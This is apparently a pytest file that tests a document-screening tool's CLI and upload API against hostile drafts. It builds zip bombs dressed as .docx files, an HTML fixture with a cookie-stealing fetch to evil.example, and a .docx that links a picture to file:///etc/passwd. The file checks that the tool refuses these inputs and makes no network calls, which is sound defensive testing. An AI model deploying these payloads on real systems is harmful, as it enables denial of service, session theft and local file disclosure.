"""Hostile rich drafts through the CLI and the HTTP API: a zip bomb dressed as .docx, and an
HTML export full of scripts and links to other hosts that must never be fetched."""

from __future__ import annotations

import io
import zipfile
from functools import cache

import pytest

from tests.fixtures.hostile import client_error, still_serving


@cache
def zip_bomb() -> bytes:
    """1 MB that says (truthfully) it unpacks to 256 MB: refused from the zip's directory."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as entry:
            chunk = b"\0" * (16 << 20)
            for _ in range(16):
                entry.write(chunk)
    return buffer.getvalue()


def lying_zip() -> bytes:
    """A real .docx whose document part inflates to 64 MB while its directory claims 1 KB."""
    import docx

    real = io.BytesIO()
    docx.Document().save(real)
    buffer = io.BytesIO()
    with zipfile.ZipFile(real) as source, \
            zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            if info.filename != "word/document.xml":
                archive.writestr(info.filename, source.read(info))
        archive.writestr("word/document.xml", b"<" * (64 << 20))  # written last
        offset = archive.infolist()[-1].header_offset
    data = bytearray(buffer.getvalue())
    data[offset + 22:offset + 26] = (1024).to_bytes(4, "little")  # local header
    central = data.rindex(b"PK\x01\x02")  # the last central directory entry is that part's
    data[central + 24:central + 28] = (1024).to_bytes(4, "little")
    return bytes(data)


HOSTILE_HTML = """<!doctype html><html><head><title>讲座通知</title>
<script src="https://evil.example/x.js"></script>
<script>fetch("https://evil.example/steal?c=" + document.cookie); 代孕广告</script>
<link rel="stylesheet" href="https://evil.example/s.css">
<style>@import url(https://evil.example/i.css); body { background: url(http://evil.example/b) }
</style></head>
<body onload="fetch('https://evil.example/onload')"><h1>讲座通知</h1><p>欢迎参加力学前沿讲座。</p>
<img src="https://evil.example/a.png">
<img data-src="http://evil.example/b.jpg" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
<img src="//evil.example/c.png">
<iframe src="https://evil.example/frame"></iframe>
<script>document.write('<img src=https://evil.example/d.png>')</script>
<noscript><img src="https://evil.example/e.png"></noscript>
</body></html>"""


# -- zip bombs as .docx -------------------------------------------------------------------------
@pytest.mark.parametrize("name, make, problem", [
    ("bomb.docx", zip_bomb, "解压后有 268,435,"),  # refused from the directory
    ("liar.docx", lying_zip, "Bad CRC-32"),  # inflating stops at the 1 KB it claimed
])
def test_zip_bombs_as_docx_are_one_error(screen, tmp_path, name, make, problem):
    path = tmp_path / name
    path.write_bytes(make())
    outcome = screen(path)
    assert outcome.code == 30 and len(outcome.error_lines) == 1, outcome.stderr
    assert str(path) in outcome.stderr and problem in outcome.stderr, outcome.stderr


def test_zip_bomb_docx_upload_is_a_422(world):
    for name, data in [("bomb.docx", zip_bomb()), ("liar.docx", lying_zip()),
                       ("plain.docx", b"not a zip at all")]:
        response = world.call("operator", "POST", "/api/drafts",
                              data={"account_id": str(world.ids["account"])},
                              files={"file": (name, data, "application/octet-stream")})
        client_error(response, name)
    still_serving(world)


# -- HTML with scripts and links to other hosts --------------------------------------------------
def test_html_scripts_are_not_text_and_remote_pictures_are_never_fetched(screen, tmp_path,
                                                                         no_network):
    path = tmp_path / "export.html"
    path.write_text(HOSTILE_HTML, encoding="utf-8")
    outcome = screen(path)
    assert outcome.code == 10, outcome.stdout + outcome.stderr
    report = outcome.reports[0]
    assert report["verdict"] == "review"
    notes = [f["detail"] for f in report["findings"] if f["category"] == "stage_error"]
    assert all("远程图片" in f["explanation"] for f in report["findings"]
               if f["category"] == "stage_error")
    for url in ("https://evil.example/a.png", "http://evil.example/b.jpg",
                "//evil.example/c.png"):
        assert any(url in n and "远程图片链接，不会下载" in n for n in notes), notes
    # script and style bodies are not draft text: 代孕 inside a <script> is no finding
    assert not any(f["term"] == "代孕" for f in report["findings"])
    assert no_network == []


def test_html_upload_with_remote_pictures_is_a_422_and_nothing_is_fetched(world, no_network):
    response = world.call("operator", "POST", "/api/drafts",
                          data={"account_id": str(world.ids["account"])},
                          files={"file": ("export.html", HOSTILE_HTML.encode(), "text/html")})
    client_error(response, "https://evil.example/a.png", "upload it as an image")
    still_serving(world)
    assert no_network == []


def test_the_network_guard_catches_a_fetch(no_network):
    """The guard the two tests above rely on does see an attempt (then forgets it, so that this
    test itself passes)."""
    import urllib.request

    try:
        urllib.request.urlopen("http://evil.example/x.png", timeout=1)
    except OSError:
        pass
    assert no_network and "evil.example" in str(no_network[0])
    no_network.clear()


def test_docx_picture_linked_to_a_local_file_is_refused(screen, tmp_path):
    import docx
    from docx.opc.constants import RELATIONSHIP_TYPE

    from .test_hostile_images import _png

    document = docx.Document()
    document.add_paragraph("讲座海报")
    document.add_picture(io.BytesIO(_png()))
    link = document.part.relate_to("file:///etc/passwd", RELATIONSHIP_TYPE.IMAGE,
                                   is_external=True)
    rel = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"
    blip = next(document.element.body.iter(
        "{http://schemas.openxmlformats.org/drawingml/2006/main}blip"))
    del blip.attrib[f"{rel}embed"]
    blip.set(f"{rel}link", link)
    path = tmp_path / "linked.docx"
    document.save(path)
    outcome = screen(path)
    assert outcome.code == 30 and "没有嵌入文档" in outcome.stderr, (
        outcome.stdout + outcome.stderr)
